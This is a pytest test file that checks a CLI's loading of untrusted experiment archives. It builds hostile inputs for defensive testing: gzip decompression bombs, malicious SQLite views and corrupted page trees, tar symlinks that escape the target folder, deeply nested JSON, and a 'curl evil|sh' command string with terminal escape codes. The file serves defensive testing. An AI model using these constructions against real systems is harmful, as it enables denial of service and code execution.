"""nnictl experiment load limits the cost, the effects and the output of an archive from an untrusted source."""

import contextlib
import gzip
import io
import json
import shutil
import sqlite3
import struct
import tarfile
import time
from functools import partial

import pytest
from deadlines import scaled_s
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from saved_archives import a_member, move_to, repacked, save_an_experiment, unpack

from nni_manager.cli import archive, archive_reader, main
from nni_manager.cli.archive_reader import ArchiveLimits
from nni_manager.errors import NniManagerError, UserError
from nni_manager.store import untrusted_store
from nni_manager.store.copying import copy_store
from nni_manager.store.errors import StoreUnusable
from nni_manager.store.registry import Registry
from nni_manager.store.untrusted_store import StoreTooLarge, copy_tables, shape_of_json
from nni_manager.support.plain_text import escaped
from nni_manager.training_services.platform import Locations

pytestmark = pytest.mark.slow

# A rejection takes about a second. If an endless archive were not rejected, its loading would never end.
AT_ONCE_S = scaled_s(20.0)
ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "


@pytest.fixture
def saved(monkeypatch, tmp_path):
    """Return a function that saves an experiment and returns the archive. Then the test continues on another fake machine."""

    def make(*options, **changes):
        path = save_an_experiment(move_to(monkeypatch, tmp_path / "here"), *options, **changes)
        move_to(monkeypatch, tmp_path / "there")
        return path

    return make


@pytest.fixture
def refused(capsys, tmp_path):
    """Return a function that loads an archive and returns the last line of stderr. The load must be rejected immediately and
    leave no files.
    """

    def load(path, *options):
        capsys.readouterr()
        started_s = time.monotonic()
        assert main.run(["experiment", "load", "-p", str(path), *options]) == 1
        assert time.monotonic() - started_s < AT_ONCE_S
        out, err = capsys.readouterr()
        assert (out, "Traceback" in err) == ("", False)
        assert (list((tmp_path / "there/nni-experiments").iterdir()), Registry.of_user().all()) == ([], [])
        return err.splitlines()[-1]

    return load


def with_file(path, name, content):
    """The archive with one file replaced."""
    new = path.with_name("z.tar.gz")
    with tarfile.open(path) as old, tarfile.open(new, "w:gz") as packed:
        for member in old:
            inside = old.extractfile(member).read() if member.isreg() else b""
            inside = content if member.name == name else inside
            member.size = len(inside)
            packed.addfile(member, io.BytesIO(inside))
    return new


# ---- code that must not run


def a_view(table, columns):
    def change(connection):
        connection.execute(f"DROP TABLE {table}")
        connection.execute(f"CREATE VIEW {table} AS {ENDLESS} SELECT {columns} FROM n WHERE i < 0")

    return change


@pytest.mark.parametrize("table", ["experiment", "trial", "metric", "job", "stream", "usage", "imported"])
def test_an_sql_view_with_the_name_of_a_table_is_never_evaluated(saved, refused, table):
    names = "experiment_id, trial_id, sequence_id, job_id, state, config, parameters, task, stream, attempt"
    columns = ", ".join(f"i AS {name}" for name in names.split(", "))
    refusal = refused(repacked(saved("-s"), a_view(table, columns)))
    assert f"no such table: {table}" in refusal


def test_an_sql_view_disguised_as_a_table_in_the_schema_is_never_evaluated(saved, refused):
    def change(connection):
        a_view("metric", "i AS trial_id")(connection)
        connection.execute("PRAGMA writable_schema = ON")
        connection.execute(
            "UPDATE sqlite_master SET type = 'table', rootpage = 2, sql = 'CREATE TABLE ' || substr(sql, 13) "
            "WHERE name = 'metric'"
        )

    assert "cannot use experiment.sqlite: " in refused(repacked(saved("-s"), change))


def test_a_virtual_table_is_never_evaluated(saved, refused):
    def change(connection):
        connection.execute("DROP TABLE metric")
        connection.execute("CREATE VIRTUAL TABLE metric USING fts5(trial_id)")

    assert "no such table: metric" in refused(repacked(saved("-s"), change))


def test_a_generated_column_is_never_evaluated(saved, refused):
    def change(connection):
        connection.execute("ALTER TABLE trial DROP COLUMN warning")
        connection.execute("ALTER TABLE trial ADD COLUMN warning TEXT AS (hex(zeroblob(400000000)))")

    assert "no such table: trial" in refused(repacked(saved("-s"), change))


def test_the_sqlite_authorizer_rejects_views_functions_and_writes(tmp_path):
    path = tmp_path / "x.sqlite"
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE job (job_id TEXT)")
        connection.execute(f"CREATE VIEW evil AS {ENDLESS} SELECT i FROM n")
        connection.commit()
    reader = untrusted_store._TableReader(path, 1000)
    with contextlib.closing(reader):
        assert [table.name for table in reader.tables()] == ["job"]
        reader._readable.add("evil")
        for statement in (
            "SELECT * FROM evil",
            "SELECT hex(zeroblob(5))",
            "ATTACH ':memory:' AS other",
            "PRAGMA query_only = OFF",
            "DROP TABLE job",
        ):
            with pytest.raises(sqlite3.DatabaseError, match=r"authorized|prohibited|denied"):
                reader._connection.execute(statement).fetchone()


def with_pages_used_again(database):
    """A database with a one-row table. The table has one leaf page, and 90,000 interior cells refer to this page."""
    with contextlib.closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
        connection.execute("DROP TABLE usage")
        names = "trial_id TEXT, task TEXT, gpus TEXT, attempt INTEGER, at_s REAL"
        connection.execute(f"CREATE TABLE usage ({names})")
        connection.execute("INSERT INTO usage VALUES ('t', 'm', ?, 0, 1.0)", ("x" * 900_000,))
        connection.commit()
        (root,) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = 'usage'").fetchone()
        (size,) = connection.execute("PRAGMA page_size").fetchone()
    content = bytearray(database.read_bytes())

    def interior(child, cells=300):
        page = bytearray(size)
        starts = [size - 6 * (number + 1) for number in range(cells)]
        # Source: the file format of SQLite, section 1.6, "B-tree Pages".
        page[:12] = struct.pack(">BHHHBI", 5, 0, cells, starts[-1], 0, child)
        for number, start in enumerate(starts):
            page[12 + 2 * number : 14 + 2 * number] = struct.pack(">H", start)
            page[start : start + 6] = struct.pack(">IBB", child, 0x80, 1)
        return page

    leaf = content[(root - 1) * size : root * size]
    pages = len(content) // size
    content += leaf + interior(pages + 1)
    content[(root - 1) * size : root * size] = interior(pages + 2)
    content[28:32] = struct.pack(">I", len(content) // size)
    database.write_bytes(content)


def test_a_database_with_repeatedly_referenced_pages_does_not_fill_the_disk(saved, refused, tmp_path):
    path = saved("-s")
    database = tmp_path / "x.sqlite"
    with tarfile.open(path) as packed:
        database.write_bytes(packed.extractfile("experiment.sqlite").read())
    with_pages_used_again(database)
    archive = with_file(path, "experiment.sqlite", database.read_bytes())
    assert archive.stat().st_size < 100_000
    for options in ((), ("--no-limits",)):
        assert "its tables hold more bytes than the file" in refused(archive, *options)


@pytest.mark.parametrize("at_s", [float("inf"), 1e308])
@pytest.mark.parametrize("column", ["created_at_s", "ended_at_s"])
def test_an_archive_with_a_time_outside_the_valid_range_is_rejected(saved, refused, column, at_s):
    def change(connection):
        connection.execute(f"UPDATE trial SET {column} = ?", (at_s,))

    assert f"{column} has the invalid value" in refused(repacked(saved("-s"), change))


@pytest.mark.parametrize(
    ("key", "value"),
    [("tuner", 5), ("assessor", "x"), ("search_space_raw", {"\x1b[31m": {"_type": "x"}})],
)
def test_a_config_value_of_an_unexpected_type_is_rejected_in_one_sentence(saved, refused, key, value):
    def change(connection):
        (config,) = connection.execute("SELECT config FROM experiment").fetchone()
        changed = json.dumps(json.loads(config) | {key: value})
        connection.execute("UPDATE experiment SET config = ?", (changed,))

    refusal = refused(repacked(saved("-s"), change))
    assert refusal.startswith("ERROR: cannot load "), refusal
    assert refusal.isprintable()


def test_code_with_chained_links_to_the_outside_is_rejected_and_leaves_no_files(saved, refused, tmp_path):
    code = io.BytesIO()
    with tarfile.open(fileobj=code, mode="w:gz") as packed:
        packed.addfile(a_member("train.py", size=1), io.BytesIO(b"1"))
        packed.addfile(a_member("a/b/c", tarfile.DIRTYPE))
        # If only their text is read, both targets are inside the folder. If the links are followed, both targets are outside.
        packed.addfile(a_member("out", tarfile.SYMTYPE, "a/b/c/up/../../.."))
        packed.addfile(a_member("a/b/c/up", tarfile.SYMTYPE, "../../.."))
    new_code = tmp_path / "new code"
    refusal = refused(with_file(saved("-s"), "code.tar.gz", code.getvalue()), "--codeDir", str(new_code))
    assert "'out' of the code is a link out of the folder" in refusal
    assert list(new_code.iterdir()) == []


def test_saved_code_is_not_unpacked_into_a_nonempty_folder_and_a_warning_is_printed(saved, tmp_path, capsys):
    path = saved("-s")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "train.py").write_text("print(2)\n")
    assert main.run(["experiment", "load", "-p", str(path), "--codeDir", str(tmp_path / "mine")]) == 0
    err = capsys.readouterr().err
    assert f"the archive's code was not unpacked, because {tmp_path / 'mine'} is not empty" in err
    assert (tmp_path / "mine" / "train.py").read_text() == "print(2)\n"


def test_a_database_query_is_interrupted_if_it_returns_no_row_in_time(tmp_path, monkeypatch):
    path = tmp_path / "x.sqlite"
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE job (job_id TEXT) STRICT")
        connection.executemany("INSERT INTO job VALUES (?)", [("x",)] * 100_000)
        connection.commit()
    monkeypatch.setattr(untrusted_store, "ROWS_TIMEOUT_S", -1.0)
    monkeypatch.setattr(untrusted_store, "_STEPS_BETWEEN_CHECKS", 10)
    with pytest.raises(StoreUnusable, match="no row was read within"):
        copy_tables(path, tmp_path / "y.sqlite")


# ---- limits of size and time


def a_bomb(path, size):
    """An archive with one file of `size` bytes. The archive has a few kilobytes for each 16 MiB."""
    piece = gzip.compress(bytes(16 * 2**20))
    head = a_member("trials/aB3dE/zeros", size=size).tobuf()
    path.write_bytes(gzip.compress(head) + piece * (size // (16 * 2**20)) + gzip.compress(bytes(10240)))
    return path


def test_a_small_archive_that_unpacks_to_gigabytes_is_rejected(saved, refused, tmp_path):
    path = a_bomb(tmp_path / "bomb.tar.gz", 3 * 2**30)
    saved()
    assert path.stat().st_size < 4_000_000
    assert refused(path) == (
        f"ERROR: cannot load {path}: it holds more than 2048 MiB once unpacked; if you trust its author, load it with "
        "--no-limits"
    )


def test_an_archive_is_rejected_if_it_exceeds_the_limit_of_members_unpacked_bytes_or_archive_bytes(
    saved, tmp_path
):
    path = repacked(saved("-s"), add=[a_member(f"trials/{number}", size=1000) for number in range(100)])
    load = partial(archive.load, path, Locations(tmp_path / "logs"))
    with pytest.raises(UserError, match="holds more than 0 MiB once unpacked"):
        load(ArchiveLimits(unpacked_bytes=100_000))
    with pytest.raises(UserError, match=r"has more than 100 members; if you trust .*--no-limits"):
        load(ArchiveLimits(members=100))
    with pytest.raises(UserError, match=r"has [0-9]+ bytes; the limit for untrusted archives is 500"):
        load(ArchiveLimits(archive_bytes=500))
    assert list((tmp_path / "logs").iterdir()) == []
    assert load().folder.path.is_dir()


def test_an_archive_with_too_many_members_is_rejected_before_a_file_is_created(saved, tmp_path):
    path = repacked(saved("-s"), add=[a_member(f"trials/{number}") for number in range(100)])
    folders = {"trials", "db", "log", "jobs"}
    with pytest.raises(UserError, match="has more than 100 members"):
        archive_reader.unpack_experiment(
            path, tmp_path / "target", set(), folders, ArchiveLimits(members=100)
        )
    assert not (tmp_path / "target").exists()


def test_the_no_limits_option_disables_the_archive_limits(saved, monkeypatch, capsys):
    path = saved("-s")
    monkeypatch.setattr(archive_reader, "LIMITS", ArchiveLimits(members=2))
    assert main.run(["experiment", "load", "-p", str(path)]) == 1
    assert main.run(["experiment", "load", "-p", str(path), "--no-limits"]) == 0


def test_the_code_inside_an_archive_has_a_separate_size_limit(saved, tmp_path):
    path = with_file(saved("-s"), "code.tar.gz", a_bomb(tmp_path / "bomb", 512 * 2**20).read_bytes())
    with pytest.raises(
        UserError, match=r"z\.tar\.gz: code\.tar\.gz: it holds more than 364 MiB once unpacked"
    ):
        archive.load(path, Locations(tmp_path / "logs"))
    assert list((tmp_path / "logs").iterdir()) == []


def test_a_global_tar_header_is_rejected(saved, refused):
    path = repacked(saved("-s"), add=[a_member("x", tarfile.XGLTYPE, size=10)])
    assert "'x' is a global header" in refused(path)


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME])
def test_a_tar_header_that_would_fill_the_memory_is_rejected(saved, refused, kind):
    path = repacked(saved("-s"), add=[a_member("x", kind, size=1_000_000)])
    assert "a header has 1000448 bytes; the limit is 65536" in refused(path)


def test_nested_tar_headers_are_rejected(saved, refused, tmp_path):
    member = a_member("x", tarfile.GNUTYPE_LONGNAME, size=2)
    path = tmp_path / "deep.tar.gz"
    path.write_bytes(gzip.compress((member.tobuf() + b"x".ljust(512, b"\0")) * 5000))
    saved()
    assert "its content is nested too deeply" in refused(path)


def test_a_sparse_file_in_an_archive_is_rejected(saved, refused):
    path = saved("-s")
    member = a_member("trials/sparse", size=0)
    member.pax_headers = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,0"}
    member.pax_headers["GNU.sparse.size"] = str(2**40)
    new = path.with_name("sparse.tar.gz")
    with tarfile.open(path) as old, tarfile.open(new, "w:gz", format=tarfile.PAX_FORMAT) as packed:
        for each in old:
            packed.addfile(each, old.extractfile(each) if each.isreg() else None)
        packed.addfile(member)
    assert "'trials/sparse' is a sparse file" in refused(new)


@pytest.mark.parametrize(
    ("statement", "value", "words"),
    [
        (
            "UPDATE trial SET message = ?",
            "x" * 1_000_001,
            "a message in its table trial has 1000001 characters",
        ),
        (
            "UPDATE trial SET metadata = ?",
            f'{{"a": "{"x" * 2**24}"}}',
            "metadata in its table trial has 16777225 ",
        ),
        (
            "UPDATE experiment SET secret = ?",
            b"x" * 2_000_000,
            "a secret in its table experiment has 2000000 ",
        ),
    ],
)
def test_a_database_field_is_rejected_if_it_is_longer_than_the_maximum(
    saved, refused, statement, value, words
):
    refusal = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
    assert words in refusal
    assert refusal.endswith("save the experiment again, with the version that ran it")


def test_an_archive_is_rejected_if_its_trials_would_fill_the_memory(saved, tmp_path, monkeypatch):
    path = repacked(
        saved("-s"),
        lambda connection: connection.execute("UPDATE trial SET message = ?", ("x" * 5000,)),
    )
    load = partial(archive.load, path, Locations(tmp_path / "logs"))
    monkeypatch.setattr(untrusted_store, "MAX_BYTES_IN_MEMORY", 2**12)
    with pytest.raises(StoreTooLarge, match="of trials; if you trust its author, load it with --no-limits"):
        load()
    assert load(archive_reader.NO_LIMITS).folder.path.is_dir()


# ---- nested JSON


DEEP = "[" * 5000 + "]" * 5000


@pytest.mark.parametrize(
    ("statement", "value"),
    [
        ("UPDATE trial SET parameters = ?", DEEP),
        ("UPDATE trial SET parameters = ?", '{"a":' * 200 + "1" + "}" * 200),
        ("UPDATE trial SET metadata = ?", f'{{"/lr": {DEEP}}}'),
        ("UPDATE experiment SET config = ?", DEEP),
        ("INSERT INTO imported VALUES (0, '{}', ?)", DEEP),
    ],
)
def test_deeply_nested_json_is_rejected_without_a_traceback(saved, refused, statement, value):
    refusal = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
    assert "levels deep; the limit is 110" in refusal


@pytest.mark.parametrize("levels", [200, 990, 5000])
def test_a_reported_result_may_be_deeply_nested_json_and_is_printed_unchanged(saved, capsys, levels):
    deep = "[" * levels + "]" * levels

    def report(connection):
        connection.execute("UPDATE trial SET final = ?", (deep,))
        connection.execute("INSERT INTO metric VALUES ('aB3dE', 0, 'main-0', 0, 0, '0', 0, ?, 1.0)", (deep,))

    assert main.run(["experiment", "load", "-p", str(repacked(saved("-s"), report))]) == 0
    for command in (["trial", "ls"], ["trial", "ls", "--json"], ["experiment", "export", "--intermediate"]):
        assert main.run(command) == 0, capsys.readouterr()
    assert deep in capsys.readouterr().out


@pytest.mark.parametrize("deep", [DEEP, "[" * 200_000 + "]" * 200_000])
def test_deeply_nested_json_inside_a_json_string_is_rejected(saved, refused, deep):
    metadata = json.dumps({"noted on the trial": f'{{"cma": {deep}}}'})
    refusal = refused(
        repacked(
            saved("-s"), lambda connection: connection.execute("UPDATE trial SET metadata = ?", (metadata,))
        )
    )
    assert "cannot " in refusal


def test_a_trial_message_that_is_not_json_may_contain_many_brackets(saved):
    message = f"cannot parse: {DEEP}"
    path = repacked(
        saved("-s"), lambda connection: connection.execute("UPDATE trial SET message = ?", (message,))
    )
    assert main.run(["experiment", "load", "-p", str(path)]) == 0


def test_a_deeply_nested_or_oversized_manifest_is_rejected(saved, refused):
    path = saved("-s")
    assert "nested too deep" in refused(with_file(path, "manifest.json", b"[" * 4000))
    assert "more than 4096 bytes" in refused(with_file(path, "manifest.json", b" " * 5000))


@given(
    st.recursive(
        st.text('a"\\[{,', max_size=5), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
    )
)
def test_the_nesting_depth_of_json_is_computed_without_parsing(value):
    def depth(each):
        if isinstance(each, dict):
            each = list(each.values())
        return 1 + max(map(depth, each), default=0) if isinstance(each, list) else 0

    assert shape_of_json(json.dumps(value))[0] == depth(value)


# ---- output


def test_the_loaded_command_is_printed_in_full_with_control_characters_escaped(saved, capsys):
    command = "curl evil|sh #\r\x1b[2K`python3 train.py` \u202e"
    assert main.run(["experiment", "load", "-p", str(saved("-s", trial_command=command))]) == 0
    out = capsys.readouterr().out
    assert r"runs `curl evil|sh #\r\x1b[2K`python3 train.py` \u202e` in " in out
    assert out.replace("\n", "").isprintable()


def test_a_command_that_is_too_long_for_a_shell_is_rejected(saved, refused):
    assert "its command has 140000 bytes; shells accept at most 131072" in refused(
        saved("-s", trial_command="x" * 140_000)
    )


def test_rejection_messages_contain_no_terminal_control_characters(saved, refused, capsys):
    pai = {
        "host": "http://pai.example",
        "user": "ada\x1b[2K\r",
        "token": "a",
        "password": None,
        "mount": "/mnt",
    }
    pai |= {"storage": "/none\x1b[2K", "image": "i", "storage_name": "s", "virtual_cluster": None}
    pai |= {"gpu": 0, "cpu": 1, "memory_mb": 100, "job_file": None, "job_text": None}
    path = saved("-s", training_service="pai", pai=pai)
    assert r"no folder /none\x1b[2K" in refused(path)
    assert r"for user ada\x1b[2K\r" in refused(path, "--storage", str(path.parent))
    refusal = refused(repacked(path, add=[a_member("evil\r\x1b[2K", size=1)]))
    assert refusal.isprintable()
    assert "evil" in refusal


@given(st.text())
def test_escaped_text_is_printable_and_printable_text_stays_unchanged(text):
    assert escaped(text).isprintable()
    if text.isprintable():
        assert escaped(text) == text


# ---- arbitrary changes


class Changed:
    """An archive, and a method that loads changed copies of the archive."""

    def __init__(self, path):
        self.path, self.logs = path, path.parent / "logs"
        with tarfile.open(path) as packed:
            self.database = packed.extractfile("experiment.sqlite").read()

    def __repr__(self):
        return "an archive"

    def load(self, content):
        """Load an archive with this content, and remove the loaded files. If nnictl rejects the archive, check that it reports an
        error.
        """
        copy = self.path.with_name("changed.tar.gz")
        copy.write_bytes(content)
        refusal = "cannot"
        try:
            folder = archive.load(copy, Locations(self.logs)).folder
        except NniManagerError as error:
            refusal = str(error)
        else:
            shutil.rmtree(folder.path)
            Registry.of_user().remove(folder.experiment_id)
        assert refusal.startswith("cannot")
        assert list(self.logs.iterdir()) == []


@pytest.fixture
def an_archive(saved):
    return Changed(saved("-s"))


changes = st.lists(
    st.tuples(st.integers(0, 2**32), st.integers(0, 3), st.binary(max_size=4)), min_size=1, max_size=8
)


def changed(content, where):
    content = bytearray(content)
    for place, length, piece in where:
        start = place % len(content)
        content[start : start + length] = piece
    return bytes(content)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(where=changes)
def test_a_randomly_changed_tar_file_is_loaded_or_rejected_without_a_crash(an_archive, where):
    an_archive.load(gzip.compress(changed(gzip.decompress(an_archive.path.read_bytes()), where), 1))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(where=changes)
def test_a_randomly_changed_database_is_loaded_or_rejected_without_a_crash(an_archive, where):
    # SQLite rejects a database whose length has changed, so these changes keep the length and the positions of the pages.
    noise = [(place, len(piece), piece) for place, _, piece in where]
    content = changed(an_archive.database, noise)
    an_archive.load(with_file(an_archive.path, "experiment.sqlite", content).read_bytes())


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_an_archive_with_arbitrary_database_values_is_loaded_or_rejected_without_a_crash(an_archive, data):
    place = an_archive.path.with_name("any.sqlite")
    place.write_bytes(an_archive.database)
    json_like = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    ).map(json.dumps)
    value = data.draw(
        json_like | st.text(max_size=9) | st.integers(-(2**63), 2**63 - 1) | st.floats() | st.none()
    )
    with contextlib.closing(sqlite3.connect(place)) as connection:
        table = data.draw(st.sampled_from(["experiment", "trial"]))
        column = data.draw(
            st.sampled_from([row[1] for row in connection.execute(f"PRAGMA table_info({table})")])
        )
        try:
            connection.execute(f"UPDATE {table} SET {column} = ?", (value,))
        except (sqlite3.IntegrityError, UnicodeEncodeError):
            return
        connection.commit()
    an_archive.load(with_file(an_archive.path, "experiment.sqlite", place.read_bytes()).read_bytes())


def test_copying_a_valid_store_twice_preserves_all_rows(saved, tmp_path):
    path = saved("-s", metadata={"/lr": 0.5, "x": "é"})
    unpack(path, tmp_path)
    copy_tables(tmp_path / "experiment.sqlite", tmp_path / "tables.sqlite")
    copy_store(tmp_path / "tables.sqlite", tmp_path / "copy.sqlite", config="{}", secret=b"")

    def rows(name):
        with contextlib.closing(sqlite3.connect(tmp_path / name)) as connection:
            tables = [
                table
                for (table,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
            ]
            return {
                table: connection.execute(f"SELECT * FROM {table}").fetchall() for table in sorted(tables)
            }

    first, last = rows("experiment.sqlite"), rows("copy.sqlite")
    assert first["trial"] == last["trial"] != []
    # The rows of these tables differ between any two stores, so they are not compared.
    for own in ("experiment", "lease"):
        del first[own], last[own]
    assert first == last


def test_the_query_time_limit_applies_to_each_row_and_not_to_the_whole_table(tmp_path, monkeypatch):
    path, copy = tmp_path / "x.sqlite", tmp_path / "y.sqlite"
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE job (job_id TEXT) STRICT")
        connection.executemany("INSERT INTO job VALUES (?)", [("x",)] * 5000)
        connection.commit()
    monkeypatch.setattr(untrusted_store, "_STEPS_BETWEEN_CHECKS", 10)
    copy_tables(path, copy)
    with contextlib.closing(sqlite3.connect(copy)) as connection:
        assert connection.execute("SELECT count(*) FROM job").fetchone() == (5000,)
